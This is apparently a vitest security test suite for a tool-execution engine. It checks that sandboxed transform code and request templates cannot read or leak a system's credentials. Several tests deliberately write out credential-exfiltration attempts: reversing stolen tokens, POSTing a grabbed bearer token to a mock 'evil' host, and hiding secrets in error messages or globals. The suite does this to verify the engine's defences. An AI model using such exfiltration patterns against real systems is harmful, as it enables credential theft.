/**
 * Issue 19, item 7 (b) and (c): what a tool author can do with a system they may use. Transform code gets
 * a system's credentials only when the system allows it (codeAccess); request templates resolve a
 * credential only for a request to the system's own origins; what a server echoes is redacted before
 * later steps see it. Real engine (isolated-vm, one context per run), real HTTP servers: `crm` is the
 * system's server, `evil` a host of the author's choosing.
 */
import { createHmac } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ToolInput } from '../../../contract/api/tool.ts';
import type { ResolvedSystem } from '../../../contract/wire/run-order.ts';
import { type HttpTarget, type TargetRequest, useHttpTarget } from '../../support/http-target.ts';
import { transform, useTestEngine } from '../../support/security-engine.ts';

const crm = useHttpTarget({ resetBeforeEach: true });
const evil = useHttpTarget({ resetBeforeEach: true });
const engine = useTestEngine();

const TOKEN = 'crm-bearer-token-0123456789';
const REVERSED = TOKEN.split('').reverse().join('');
const SIGNING_KEY = 'crm-signing-key-9876543210';
/** HMAC-SHA256 of `s.message` under the system's `apiKey`, in plain JavaScript (the sandbox has no crypto). */
const SIGNER = String.raw`(s) => {
  // SHA-256 over a binary string (one char per byte), hex out; HMAC-SHA256 on top (RFC 2104).
  const sha256 = (ascii) => {
    const rotr = (v, n) => (v >>> n) | (v << (32 - n));
    const hash = [], k = [];
    for (let c = 2, found = 0; found < 64; c++) {
      let prime = true;
      for (let d = 2; d * d <= c; d++) if (c % d === 0) { prime = false; break; }
      if (!prime) continue;
      if (found < 8) hash[found] = (Math.pow(c, 1 / 2) * 2 ** 32) | 0;
      k[found++] = (Math.pow(c, 1 / 3) * 2 ** 32) | 0;
    }
    const bitLength = ascii.length * 8;
    ascii += '\x80';
    while (ascii.length % 64 !== 56) ascii += '\x00';
    const words = [];
    for (let i = 0; i < ascii.length; i++) words[i >> 2] |= ascii.charCodeAt(i) << ((3 - (i % 4)) * 8);
    words.push((bitLength / 2 ** 32) | 0, bitLength | 0);
    let h = hash.slice(0, 8);
    for (let j = 0; j < words.length; j += 16) {
      const w = words.slice(j, j + 16);
      const old = h.slice();
      for (let i = 0; i < 64; i++) {
        if (i >= 16) {
          const a = w[i - 15], b = w[i - 2];
          w[i] = (w[i - 16] + (rotr(a, 7) ^ rotr(a, 18) ^ (a >>> 3)) + w[i - 7] + (rotr(b, 17) ^ rotr(b, 19) ^ (b >>> 10))) | 0;
        }
        const [a, b, c, d, e, f, g] = h;
        const t1 = (h[7] + (rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25)) + ((e & f) ^ (~e & g)) + k[i] + w[i]) | 0;
        const t2 = ((rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22)) + ((a & b) ^ (a & c) ^ (b & c))) | 0;
        h = [(t1 + t2) | 0, a, b, c, (d + t1) | 0, e, f, g];
      }
      h = h.map((v, i) => (v + old[i]) | 0);
    }
    return h.map((v) => (v >>> 0).toString(16).padStart(8, '0')).join('');
  };
  const bytes = (hex) => hex.replace(/../g, (pair) => String.fromCharCode(parseInt(pair, 16)));
  const hmac = (key, message) => {
    let block = key.length > 64 ? bytes(sha256(key)) : key;
    block = block.padEnd(64, '\x00');
    const pad = (byte) => [...block].map((ch) => String.fromCharCode(ch.charCodeAt(0) ^ byte)).join('');
    return sha256(pad(0x5c) + bytes(sha256(pad(0x36) + message)));
  };
  return { signature: hmac(s.credentials.crm.apiKey, s.message) };
}`;

/** Everything a request carried, as text: where a credential would show. */
function seen(requests: TargetRequest[]): string {
  return JSON.stringify(requests.map((r) => ({ url: r.url, headers: r.headers, body: r.text })));
}

/** A request step to the crm system's /anything (httpbin's echo), with more config. */
function crmCall(id: string, config: Record<string, unknown> = {}): ToolInput['steps'][number] {
  return { id, config: { url: '/anything', systemId: 'crm', ...config } };
}

/** Runs the steps with the system crm (bearer token, no codeAccess). */
function crmRun(...steps: ToolInput['steps']) {
  return engine.run({ steps }, { systems: [bearer()] });
}

function bearer(extra: Partial<ResolvedSystem> = {}): ResolvedSystem {
  return { id: 'crm', url: crm.url, authType: 'bearer', credentials: { bearerToken: TOKEN }, ...extra };
}

const origin = (target: HttpTarget) => `http://127.0.0.1:${new URL(target.url).port}`;

const NOT_FOR_CODE =
  "credential crm_bearerToken is not available to code: system 'crm' does not allow it (set codeAccess: true " +
  'on the system if code must read its credentials, e.g. to sign requests: PATCH /v1/systems/crm ' +
  '{"codeAccess": true}, or spec.codeAccess in its System resource; a request step to the system\'s origin ' +
  'can use <<crm_bearerToken>> without it)';

beforeAll(async () => {
  for (const target of [crm, evil]) {
    // httpbin's /anything: the request as the server got it.
    for (const path of ['/anything', `/anything/${TOKEN}`]) {
      target.route('*', path, (req) => ({
        body: { headers: req.headers, query: req.query, body: req.text, path: req.url },
      }));
    }
  }
});

describe('transform code and a system without codeAccess (the default)', () => {
  it("cannot read the credentials as JSON (the issue's reversed-token transform): the step fails naming the setting", async () => {
    const result = await crmRun(
      { id: 'call', config: { url: '/anything', systemId: 'crm' } },
      transform('steal', '(s) => JSON.stringify(s.credentials).split("").reverse().join("")'),
    );
    expect(result.status).toBe('failed');
    expect(result.stepResults[1]?.error).toBe(
      `step steal transformCode: Error at line 1, column 13: ${NOT_FOR_CODE}`,
    );
    const everything = JSON.stringify(result);
    expect(everything).not.toContain(TOKEN);
    expect(everything).not.toContain(REVERSED);
  });

  it('cannot grab the token for a request to another host: the run fails at the grab and nothing reaches that host', async () => {
    for (const grab of [
      '(s) => ({ v: s.credentials.crm.bearerToken })',
      '(s) => ({ v: s.crm_bearerToken })',
    ]) {
      for (const failureBehavior of ['fail', 'continue'] as const) {
        const result = await crmRun(
          { id: 'grab', failureBehavior, config: { type: 'transform', transformCode: grab } },
          {
            id: 'send',
            config: { url: `${evil.url}/collect`, method: 'POST', body: '<<(s) => s.grab.data.v>>' },
          },
        );
        expect(result.status).toBe('failed');
        expect(result.stepResults[0]?.error).toContain(NOT_FOR_CODE);
        expect(JSON.stringify(result)).not.toContain(TOKEN);
      }
    }
    expect(evil.requests).toHaveLength(0);
  });

  it('sees the names but no value, also when it enumerates everything, and may still use system URLs', async () => {
    const result = await crmRun(
      transform(
        'look',
        `(s) => {
                const tryRead = (f) => { try { return f(); } catch (e) { return 'threw: ' + e.message.slice(0, 40); } };
                return {
                  keys: Object.keys(s.credentials.crm),
                  topLevel: Object.keys(s).filter((k) => k.startsWith('crm_')).sort(),
                  url: s.crm_url,
                  values: tryRead(() => Object.values(s.credentials.crm)),
                  spread: tryRead(() => ({ ...s })),
                };
              }`,
      ),
    );
    expect(result.status).toBe('success');
    expect(result.data).toEqual({
      keys: ['bearerToken'],
      topLevel: ['crm_bearerToken', 'crm_url'],
      url: crm.url,
      values: 'threw: credential crm_bearerToken is not availa',
      spread: 'threw: credential crm_bearerToken is not availa',
    });
  });

  it("treats runtime overrides of the system's keys like its stored ones; free-named runtime credentials stay visible", async () => {
    const result = await engine.run(
      {
        steps: [
          transform(
            'look',
            `(s) => {
                let override;
                try { override = s.crm_bearerToken; } catch (e) { override = 'withheld'; }
                return { loose: s.callerToken, grouped: s.credentials.callerToken, override };
              }`,
          ),
        ],
      },
      {
        systems: [bearer()],
        runtimeCredentials: { crm_bearerToken: 'runtime-override-token', callerToken: 'caller-own-token' },
      },
    );
    expect(result.status).toBe('success');
    // Visible to code, and still redacted when it leaves the run.
    expect(result.data).toEqual({
      loose: '<<callerToken>>',
      grouped: '<<callerToken>>',
      override: 'withheld',
    });
  });

  it("cannot read a data store's connection URL in the expression that decides where a request goes", async () => {
    const db: ResolvedSystem = {
      id: 'db',
      authType: 'dataStore',
      credentials: { url: `${crm.url}/?user=app&password=db-password-123` },
    };
    const result = await engine.run(
      {
        steps: [
          {
            id: 'x',
            config: {
              url: `<<(s) => "${evil.url}/anything?c=" + s.db_url.split("").reverse().join("")>>`,
              systemId: 'db',
            },
          },
        ],
      },
      { systems: [db] },
    );
    expect(result.status).toBe('failed');
    expect(result.stepResults[0]?.error).toContain(
      "credential db_url is not available to code: system 'db' does not allow it",
    );
    expect(evil.requests).toHaveLength(0);
  });
});

describe('transform code and a system with codeAccess: true', () => {
  const signer = `(s) => ({ ...(${SIGNER})(s), key: s.credentials.crm.apiKey })`;

  it('signs a request in code (HMAC), and what it returns is still redacted', async () => {
    crm.route('GET', '/orders', (req) => {
      const expected = createHmac('sha256', SIGNING_KEY).update('GET /orders').digest('hex');
      return req.headers['x-signature'] === expected
        ? { body: { ok: true } }
        : { status: 401, body: { error: 'bad signature' } };
    });
    const system: ResolvedSystem = {
      id: 'crm',
      url: crm.url,
      credentials: { apiKey: SIGNING_KEY },
      codeAccess: true,
    };
    const result = await engine.run(
      {
        steps: [
          transform('sign', signer),
          {
            id: 'orders',
            config: {
              url: '/orders',
              systemId: 'crm',
              headers: { 'X-Signature': '<<(s) => s.sign.data.signature>>' },
            },
          },
        ],
        outputTransform: '(s) => ({ orders: s.orders.data, signed: s.sign.data })',
      },
      { systems: [system], inputs: { message: 'GET /orders' } },
    );
    expect(result.status).toBe('success');
    expect(result.data).toEqual({
      orders: { ok: true },
      signed: {
        signature: createHmac('sha256', SIGNING_KEY).update('GET /orders').digest('hex'),
        key: '<<crm_apiKey>>',
      },
    });
    expect(result.stepResults[0]?.data).toMatchObject({ key: '<<crm_apiKey>>' });
    expect(JSON.stringify(result)).not.toContain(SIGNING_KEY);
  });
});

describe('request templates', () => {
  const shapes = {
    url: { url: `/anything/<<(s) => s.credentials.crm.bearerToken>>` },
    headers: { url: '/anything', headers: { 'X-Token': '<<(s) => s.credentials.crm.bearerToken>>' } },
    query: { url: '/anything', queryParams: { t: '<<(s) => s.crm_bearerToken>>' } },
    body: { url: '/anything', method: 'POST', body: { t: '<<(s) => s.credentials.crm_bearerToken>>' } },
  } as const;

  it("resolve a credential (function templates too) in a request to the system's origin: URL, headers, query, body", async () => {
    for (const [where, config] of Object.entries(shapes)) {
      const url = `${crm.url}${config.url}`;
      const result = await crmRun({ id: 'call', config: { ...config, url } });
      expect(result.status, where).toBe('success');
    }
    expect(crm.requests).toHaveLength(4);
    for (const request of crm.requests) expect(seen([request])).toContain(TOKEN);
  });

  it('fail before sending anything when the same templates aim at another origin', async () => {
    for (const [where, config] of Object.entries(shapes)) {
      const url = `${evil.url}${config.url}`;
      const result = await crmRun({ id: 'call', config: { ...config, url } });
      expect(result.status, where).toBe('failed');
      expect(result.stepResults[0]?.error, where).toContain(
        `credential crm_bearerToken is not sent to ${origin(evil)}: it is not one of the origins of system 'crm' (${origin(crm)}); list it in the system's extraOrigins to allow it`,
      );
    }
    expect(evil.requests).toHaveLength(0);
  });

  it('cannot keep a credential for later code: what a template function leaves in globals is gone', async () => {
    const result = await crmRun(
      crmCall('call', {
        headers: { 'X-Kept': '<<(s) => { globalThis.kept = s.crm_bearerToken; return "x"; }>>' },
      }),
      transform('later', '(s) => globalThis.kept ?? "nothing"'),
    );
    expect(result.status).toBe('success');
    expect(result.stepResults[1]?.data).toBe('nothing');
  });

  it('cannot pass a credential out through the message of an error it throws', async () => {
    const result = await crmRun(
      crmCall('call', {
        headers: {
          'X-Leak': `<<(s) => { const e = new Error(s.crm_bearerToken.split('').reverse().join('')); e.name = s.crm_bearerToken.slice(0, 9); throw e; }>>`,
        },
      }),
    );
    expect(result.status).toBe('failed');
    expect(result.stepResults[0]?.error).toBe(
      "Template expression '<<(s) => { const e = new Error(s.crm_bearerToken.split('')....>>' failed: step call " +
        'template: failed with an error; its message and position are not shown because this code can read ' +
        "credentials of system 'crm', which does not allow code to see them (codeAccess is off)",
    );
    expect(JSON.stringify(result)).not.toContain(REVERSED);
    expect(JSON.stringify(result)).not.toContain(TOKEN.slice(0, 9));
    expect(crm.requests).toHaveLength(0);
  });
});

describe('data a server echoed back', () => {
  it('is redacted before the next step and its templates see it, so it cannot be forwarded or disguised', async () => {
    const result = await crmRun(
      {
        id: 'echo',
        config: { url: '/anything', systemId: 'crm', queryParams: { copy: '<<crm_bearerToken>>' } },
      },
      transform(
        'disguise',
        `(s) => ({
                auth: s.echo.data.headers.authorization,
                reversed: s.echo.data.headers.authorization.split('').reverse().join(''),
                path: s.echo.data.path,
              })`,
      ),
      {
        id: 'forward',
        config: {
          url: `${evil.url}/anything`,
          method: 'POST',
          body: {
            auth: '<<(s) => s.echo.data.headers.authorization>>',
            reversed: '<<(s) => s.disguise.data.reversed>>',
          },
        },
      },
    );
    expect(result.status).toBe('success');
    expect(result.stepResults[1]?.data).toEqual({
      auth: 'Bearer <<crm_bearerToken>>',
      reversed: '>>nekoTreraeb_mrc<< reraeB',
      path: '/anything?copy=<<crm_bearerToken>>',
    });
    expect(evil.requests).toHaveLength(1);
    expect(seen(evil.requests)).not.toContain(TOKEN);
    expect(seen(evil.requests)).not.toContain(REVERSED);
  });

  it('is redacted before a pagination stopCondition sees it', async () => {
    const result = await crmRun(
      crmCall('pages', {
        queryParams: { page: '<<page>>' },
        pagination: {
          type: 'pageBased',
          pageSize: '10',
          stopCondition: `(response) => { if (response.data.headers.authorization.split('').reverse().join('').length) throw new Error(response.data.headers.authorization.split('').reverse().join('')); return true; }`,
        },
      }),
    );
    expect(result.status).toBe('failed');
    expect(result.stepResults[0]?.error).toContain('>>nekoTreraeb_mrc<< reraeB');
    expect(JSON.stringify(result)).not.toContain(REVERSED);
  });
});
